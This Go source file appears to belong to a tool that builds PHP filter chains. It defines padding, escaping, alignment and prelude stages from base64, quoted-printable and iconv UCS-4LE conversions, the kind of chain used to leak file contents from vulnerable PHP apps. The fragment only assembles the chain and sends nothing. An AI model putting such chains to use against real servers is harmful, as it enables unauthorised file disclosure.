package chain

// pad appends stages that introduce controlled trailing garbage bytes which
// survive subsequent re-encoding, so later alignment never trims real file
// content (§4.6 step 1).
func pad(p *Pipeline) {
	const times = 3
	p.Append(b64EncodeTok)
	for i := 0; i < times; i++ {
		p.Append(b64EncodeTok)
		p.Append(removeEqual)
	}
	for i := 0; i < times; i++ {
		p.Append(b64Decode)
		p.Append(removeEqual)
	}
	p.Append(b64Decode)
}

// escape guarantees only ASCII-safe bytes remain in the stream (§4.6 step
// 2). Kept as its own step, matching the reference, because a binary-file
// variant would swap this single stage for a different encoding choice
// (explicitly out of scope here, see Non-goals).
func escape(p *Pipeline) {
	p.Append(qpEncode)
}

// align makes the base64 payload's size divisible by 3, which the next
// stage (iconv widening to UCS-4LE) needs so its own 4-byte alignment holds
// (§4.6 step 4).
func align(p *Pipeline) error {
	p.Append(b64EncodeTok)
	p.Append(qpEncode)
	p.Append(removeEqual)
	if err := p.PushChar('A'); err != nil {
		return err
	}
	p.Append(qpEncode)
	p.Append(removeEqual)
	if err := p.PushChar('A'); err != nil {
		return err
	}
	p.Append(qpEncode)
	p.Append(removeEqual)
	if err := p.PushCharSafely('A'); err != nil {
		return err
	}
	if err := p.PushCharSafely('A'); err != nil {
		return err
	}
	p.Append(b64Decode)
	return nil
}

// prelude pads the file content with garbage, escapes it, and positions it
// at a known base64/3 alignment before widening each byte into a 4-byte
// UCS-4LE code unit (§4.6).
func prelude(p *Pipeline) error {
	pad(p)
	escape(p)
	p.Append(b64EncodeTok)
	p.Append(b64EncodeTok)
	if err := align(p); err != nil {
		return err
	}
	p.Append("convert.iconv.437.UCS-4le")
	return nil
}
